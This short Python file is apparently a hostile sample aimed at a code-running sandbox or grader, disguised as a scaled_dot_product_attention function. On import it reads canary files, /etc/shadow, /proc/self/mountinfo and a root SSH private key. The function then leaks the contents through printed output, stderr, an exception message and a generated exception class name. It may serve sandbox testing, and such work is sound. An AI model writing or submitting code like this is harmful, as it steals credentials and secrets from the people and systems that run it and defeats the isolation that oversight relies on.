"""Reads all it can and smuggles it out: in its exception, its output, its evidence and its name."""

import os

for path in [*CANARIES, "/proc/self/mountinfo", "/etc/shadow", "/root/.ssh/id_ed25519"]:
    try:
        loot.append(open(path, errors="replace").read())
    except OSError as error:
        loot.append(type(error).__name__)


# %% scaled_dot_product_attention
def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    told = " ".join(loot)
    print(told)
    os.write(2, told.encode())
    raise type(told[:200], (Exception,), {})(told)
